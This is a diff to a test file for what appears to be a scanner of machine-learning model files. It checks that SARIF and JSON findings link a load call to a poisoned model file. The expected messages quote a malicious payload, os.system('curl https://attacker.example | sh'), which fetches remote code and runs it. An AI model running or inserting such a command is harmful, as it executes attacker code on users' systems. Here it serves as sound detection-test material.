@@ -67,6 +67,15 @@ test('JSON lists every verdict; SARIF validates and carries the artifact rules',
   assert.ok(artifact.partialFingerprints);
   const taxa = log.runs[0].taxonomies[0].taxa.map((t: { id: string }) => t.id);
   assert.ok(taxa.includes('AML.T0018.002'));
+  // The load call's result links the model file it reads (code scanning shows it beside the call).
+  const load = results.find((r: { ruleId: string }) => r.ruleId === 'load-inspected-artifact');
+  assert.deepEqual(load.relatedLocations, [
+    { id: 0, physicalLocation: { artifactLocation: { uri: 'models/classifier.pt', uriBaseId: '%SRCROOT%' } }, message: { text: "The model file torch.load() loads: dangerous: imports os.system (process, called as os.system('curl https://attacker.example | sh'))." } },
+  ]);
+  const jsonLoad = json.findings.find((f: { ruleId: string }) => f.ruleId === 'load-inspected-artifact');
+  assert.deepEqual(jsonLoad.related, [{ path: 'models/classifier.pt', message: "The model file torch.load() loads: dangerous: imports os.system (process, called as os.system('curl https://attacker.example | sh'))." }]);
+  // Findings about no other file have none.
+  assert.equal(artifact.relatedLocations, undefined);
 });
 
 test('--fail-on and rules: off turn artifact findings off like any rule', () => {
